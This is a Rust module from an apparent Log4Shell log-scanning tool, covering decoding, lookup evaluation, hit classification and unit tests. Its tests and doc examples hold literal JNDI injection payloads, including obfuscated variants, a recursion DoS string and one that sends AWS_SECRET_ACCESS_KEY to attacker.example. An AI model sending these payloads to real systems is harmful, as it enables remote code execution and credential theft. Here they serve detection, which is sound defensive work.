//! `vulnshare hunt`: finds Log4Shell exploitation attempts (CVE-2021-44228, CVE-2021-45105) in
//! log text.
//!
//! A line goes through four stages, and only the first one sees every byte:
//! 1. [`prefilter`]: SIMD byte searches for the first byte of `$` in any encoding, and for trace
//!    strings;
//! 2. [`decode`]: URL, `\u`, `\x`, octal, JSON and HTML escapes, peeled layer by layer;
//! 3. [`substitutor`] and [`lookup`]: the log4j 2 lookup grammar, evaluated under hard limits;
//! 4. [`classify`]: what the evaluation means, as [`Hit`]s with target and source.
//!
//! Around that core: [`input`] reads files, folders and standard input (gzip, zstd, bzip2, xz by
//! content) in parallel segments; [`output`] counts and prints hits; [`stix`] and [`report`]
//! turn a hunt into a STIX 2.1 bundle and a vulnshare threat report; [`corpus`] generates the
//! labelled test data.
//!
//! ```
//! use vulnshare_scan::hunt::{HitClass, Hunter};
//!
//! let hunter = Hunter::default();
//! let hits = hunter.scan_line(b"GET /?q=%24%7Bjndi:rmi://1.2.3.4/x%7D HTTP/1.1");
//! assert_eq!(hits[0].class, HitClass::Jndi);
//! assert_eq!(hits[0].target_host.as_deref(), Some("1.2.3.4"));
//! ```

mod classify;
pub mod corpus;
mod decode;
pub mod input;
mod lookup;
#[cfg(target_os = "linux")]
mod mapped_file;
pub mod output;
mod prefilter;
pub mod report;
mod scan;
mod source;
pub mod stix;
mod substitutor;
mod suppression;

use std::borrow::Cow;
use std::net::IpAddr;

use serde::Serialize;

pub use classify::{HitClass, JndiProtocol, JndiTarget};
pub use lookup::Exfiltration;
pub use scan::ScanSummary;
pub use substitutor::Limits;
pub use suppression::{IpBlock, Suppression};

/// Why a hunt could not run or finish.
#[derive(Debug, thiserror::Error)]
pub enum HuntError {
    /// The input stream failed; hits before `line_number` were already reported.
    #[error(
        "could not read the log after line {line_number}: {source}; check the file is readable and not truncated"
    )]
    Read {
        /// Lines fully read before the failure.
        line_number: u64,
        /// The I/O error from the reader.
        source: std::io::Error,
    },
    /// A suppression entry is malformed.
    #[error(
        "suppression entry `{entry}` is neither an IP address, a CIDR block (like 192.0.2.0/24) nor a host name"
    )]
    InvalidSuppression {
        /// The entry as given.
        entry: String,
    },
}

/// Settings for a [`Hunter`]; the defaults suit access, application and system logs.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct HunterConfig {
    /// Limits on evaluating one piece of attacker text.
    pub limits: Limits,
    /// Most decoding passes per line (URL-encoded three times needs three).
    pub max_decode_layers: u8,
    /// Longest text evaluated at once; longer decoded lines are evaluated in windows.
    pub max_eval_bytes: usize,
    /// Longest line [`Hunter::scan_reader`] buffers; longer lines are scanned in pieces.
    pub max_line_bytes: usize,
    /// Longest `raw` line copied into a hit, in characters; 0 leaves `raw` empty, for callers
    /// that do not show it.
    pub max_raw_chars: usize,
    /// Known scanners whose hits are dropped (or only flagged, see `keep_suppressed`).
    pub suppression: Suppression,
    /// Report suppressed hits with `suppressed: true` instead of dropping them.
    pub keep_suppressed: bool,
}

impl Default for HunterConfig {
    fn default() -> Self {
        Self {
            limits: Limits::default(),
            max_decode_layers: 4,
            max_eval_bytes: 64 * 1024,
            max_line_bytes: 16 * 1024 * 1024,
            max_raw_chars: 2048,
            suppression: Suppression::default(),
            keep_suppressed: false,
        }
    }
}

/// One exploitation attempt (or trace of one) found in a log line.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct Hit {
    /// 1-based line number in the scanned input.
    pub line_number: u64,
    /// Byte offset of the line's first byte in the scanned input.
    pub byte_offset: u64,
    /// The line as logged (lossy UTF-8, cut to `max_raw_chars`).
    pub raw: String,
    /// What the attack evaluates to, e.g. `${jndi:ldap://evil.example:1389/a}`.
    pub decoded_payload: String,
    /// What kind of attack this is.
    pub class: HitClass,
    /// The JNDI protocol, for `jndi` hits and traces naming one.
    pub protocol: Option<JndiProtocol>,
    /// The host the victim is told to contact.
    pub target_host: Option<String>,
    /// The port the victim is told to contact.
    pub target_port: Option<u16>,
    /// The path or object name asked for, e.g. `Exploit`.
    pub target_path: Option<String>,
    /// Victim state the attack reads into the network name.
    pub exfiltration: Vec<Exfiltration>,
    /// The client that sent it, for access logs and JSON logs with a client-address field.
    pub source_ip: Option<IpAddr>,
    /// Decoding passes the line needed (0 for a plain payload).
    pub decode_layers: u8,
    /// Extra explanation, e.g. which limit a recursion hit or which trace matched.
    pub detail: Option<String>,
    /// True when the suppression list matched and `keep_suppressed` is set.
    pub suppressed: bool,
}

/// Scans log text for Log4Shell attempts; cheap to share between threads.
#[derive(Debug, Clone)]
pub struct Hunter {
    config: HunterConfig,
    prefilter: prefilter::Prefilter,
}

impl Default for Hunter {
    fn default() -> Self {
        Self::new(HunterConfig::default())
    }
}

impl Hunter {
    /// Builds a hunter; the prefilter automaton is compiled once here.
    pub fn new(config: HunterConfig) -> Self {
        Self {
            config,
            prefilter: prefilter::Prefilter::new(),
        }
    }

    /// The settings this hunter runs with.
    pub fn config(&self) -> &HunterConfig {
        &self.config
    }

    /// Scans one line (without its newline); hits carry line number 1 and offset 0.
    pub fn scan_line(&self, line: &[u8]) -> Vec<Hit> {
        if self.prefilter.find(line).is_none() {
            return Vec::new();
        }
        let mut hits = Vec::new();
        self.line_hits(line, 1, 0, &mut Vec::new(), &mut |hit| hits.push(hit));
        hits
    }

    /// Evaluates one candidate line, giving its hits to `on_hit`; returns the number of hits
    /// given and the number suppressed. `findings` is an empty list that the lines of a scan
    /// share, so that a line with findings does not allocate one.
    fn line_hits(
        &self,
        line: &[u8],
        line_number: u64,
        byte_offset: u64,
        findings: &mut Vec<classify::Finding>,
        on_hit: &mut dyn FnMut(Hit),
    ) -> (u64, u64) {
        let line = line.strip_suffix(b"\r").unwrap_or(line);
        let text = utf8_lossy(line);
        findings.clear();
        // A trace is found in the raw line; everything after it in the decoded one.
        let mut traces = 0;
        if let Some(trace) = classify::post_exploitation(&text) {
            findings.push(trace);
            traces = 1;
        }
        let (decoded, layers) = decode::decode_layers(line, self.config.max_decode_layers);
        // Without escapes (most lines) the decoded text is the line: no second UTF-8 check.
        let decoded = match &decoded {
            Cow::Borrowed(_) => Cow::Borrowed(text.as_ref()),
            Cow::Owned(bytes) => utf8_lossy(bytes),
        };
        self.evaluate_windows(&decoded, findings);
        if findings.is_empty() {
            return (0, 0);
        }
        let source_ip = source::source_ip(&text);
        // A line no longer in bytes than the limit is within it in characters too: no count.
        let mut raw: String = if self.config.max_raw_chars == 0 {
            String::new()
        } else if text.len() <= self.config.max_raw_chars {
            text.to_string()
        } else {
            text.chars().take(self.config.max_raw_chars).collect()
        };
        let (mut hit_count, mut suppressed_count) = (0, 0);
        let last = findings.len() - 1;
        for (index, finding) in findings.drain(..).enumerate() {
            let decode_layers = if index < traces { 0 } else { layers };
            let suppressed = self
                .config
                .suppression
                .matches(source_ip, finding.target.host.as_deref());
            if suppressed {
                suppressed_count += 1;
                if !self.config.keep_suppressed {
                    continue;
                }
            }
            hit_count += 1;
            on_hit(Hit {
                line_number,
                byte_offset,
                // Most lines have one finding: it takes the line, the others copy it.
                raw: if index == last {
                    std::mem::take(&mut raw)
                } else {
                    raw.clone()
                },
                decoded_payload: finding.payload,
                class: finding.class,
                protocol: finding.target.protocol,
                target_host: finding.target.host,
                target_port: finding.target.port,
                target_path: finding.target.path,
                exfiltration: finding.exfiltration,
                source_ip,
                decode_layers,
                detail: finding.detail,
                suppressed,
            });
        }
        (hit_count, suppressed_count)
    }

    /// Analyzes decoded text, in half-overlapping windows starting at a `${` when it is longer
    /// than `max_eval_bytes`, so a huge line costs linear time; adds what it finds to
    /// `findings` unless it is there already.
    fn evaluate_windows(&self, decoded: &str, findings: &mut Vec<classify::Finding>) {
        let bytes = decoded.as_bytes();
        let mut pos = 0;
        while let Some(open) = substitutor::find_open(bytes, pos) {
            let mut start = open;
            // Keep a preceding `$` so an escaped `$${` stays escaped.
            if start > 0 && bytes[start - 1] == b'$' {
                start -= 1;
            }
            let mut end = (start + self.config.max_eval_bytes).min(bytes.len());
            while !decoded.is_char_boundary(end) {
                end -= 1;
            }
            let at_end = end == bytes.len();
            classify::analyze(&decoded[start..end], &self.config.limits, at_end, findings);
            if at_end {
                break;
            }
            // Windows overlap by half, so any payload up to half a window fits whole in one.
            pos = (start + self.config.max_eval_bytes / 2).max(open + 2);
        }
    }
}

/// `String::from_utf8_lossy`, with the validation of `str::from_utf8` first: it checks ASCII a
/// word at a time, where the lossy scan goes byte by byte, and nearly every line is valid.
fn utf8_lossy(bytes: &[u8]) -> Cow<'_, str> {
    match std::str::from_utf8(bytes) {
        Ok(text) => Cow::Borrowed(text),
        Err(_) => String::from_utf8_lossy(bytes),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn lossy_text_is_the_standard_one() {
        for bytes in [
            &b""[..],
            b"plain ascii ${jndi:ldap://a.example/x}",
            "caf\u{e9} \u{1F600}".as_bytes(),
            b"cut \xe2\x82",
            b"\xff\xfe${jndi:\xc0\xafldap://b.example/}",
        ] {
            assert_eq!(utf8_lossy(bytes), String::from_utf8_lossy(bytes));
        }
    }

    fn one(line: &str) -> Hit {
        let hits = Hunter::default().scan_line(line.as_bytes());
        assert_eq!(hits.len(), 1, "{line}: {hits:#?}");
        hits.into_iter().next().unwrap()
    }

    #[test]
    fn brief_examples() {
        let hit = one("${jndi:ldap://evil.example:1389/a}");
        assert_eq!(hit.class, HitClass::Jndi);
        assert_eq!(hit.protocol, Some(JndiProtocol::Ldap));
        assert_eq!(hit.target_host.as_deref(), Some("evil.example"));
        assert_eq!(hit.target_port, Some(1389));
        assert_eq!(hit.target_path.as_deref(), Some("a"));

        let hit = one("${${lower:j}${upper:n}${::-d}i:${lower:l}dap://x.y/z}");
        assert_eq!(
            (hit.class, hit.protocol.clone()),
            (HitClass::Jndi, Some(JndiProtocol::Ldap))
        );
        assert_eq!(hit.target_host.as_deref(), Some("x.y"));

        let hit = one("${j${k8s:k5:-ND}i${sd:k5:-:}ldap://a.b/c}");
        assert_eq!(
            (hit.class, hit.target_host.as_deref()),
            (HitClass::Jndi, Some("a.b"))
        );

        let hit = one("%24%7Bjndi:rmi://1.2.3.4/x%7D");
        assert_eq!(hit.protocol, Some(JndiProtocol::Rmi));
        assert_eq!(hit.target_host.as_deref(), Some("1.2.3.4"));
        assert_eq!(hit.decode_layers, 1);

        let hit = one("${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.attacker.example}");
        assert_eq!(hit.class, HitClass::Jndi);
        assert_eq!(
            hit.exfiltration,
            [Exfiltration {
                lookup: "env".into(),
                key: "AWS_SECRET_ACCESS_KEY".into()
            }]
        );

        let hit = one("${${::-${::-$${::-j}}}}");
        assert_eq!(hit.class, HitClass::RecursionDos);
    }

    #[test]
    fn benign_lines_are_quiet() {
        let hunter = Hunter::default();
        for line in [
            "server listening on ${server.port}",
            "export PATH=${HOME}/bin:$PATH",
            "building ${project.version} into ${project.build.directory}",
            "debconf: ${REMOVED_DEVICES} will be removed",
            "total $12.50 (was $15)",
            "GET /search?q=%2410+off HTTP/1.1",
        ] {
            assert!(hunter.scan_line(line.as_bytes()).is_empty(), "{line}");
        }
    }

    #[test]
    fn source_ip_and_suppression() {
        let line = r#"203.0.113.7 - - [10/Dec/2021:10:00:00 +0000] "GET / HTTP/1.1" 200 5 "-" "${jndi:ldap://scan.example/a}""#;
        let hit = one(line);
        assert_eq!(hit.source_ip, "203.0.113.7".parse().ok());
        assert_eq!(hit.raw, line);

        let suppression = Suppression::parse(["203.0.113.0/24"]).unwrap();
        let quiet = Hunter::new(HunterConfig {
            suppression: suppression.clone(),
            ..HunterConfig::default()
        });
        assert!(quiet.scan_line(line.as_bytes()).is_empty());
        let flagged = Hunter::new(HunterConfig {
            suppression,
            keep_suppressed: true,
            ..HunterConfig::default()
        });
        assert!(flagged.scan_line(line.as_bytes())[0].suppressed);
    }

    #[test]
    fn several_payloads_in_one_line() {
        let hits = Hunter::default()
            .scan_line(b"a=${jndi:ldap://one.example/a} b=${jndi:rmi://two.example/b}");
        let hosts: Vec<_> = hits
            .iter()
            .filter_map(|h| h.target_host.as_deref())
            .collect();
        assert_eq!(hosts, ["one.example", "two.example"]);
    }

    #[test]
    fn long_lines_are_evaluated_in_windows() {
        let config = HunterConfig {
            max_eval_bytes: 64,
            ..HunterConfig::default()
        };
        let line = format!("{}${{jndi:ldap://far.example/a}}", "${x} pad ".repeat(500));
        let hits = Hunter::new(config).scan_line(line.as_bytes());
        assert_eq!(hits[0].target_host.as_deref(), Some("far.example"));
    }
}
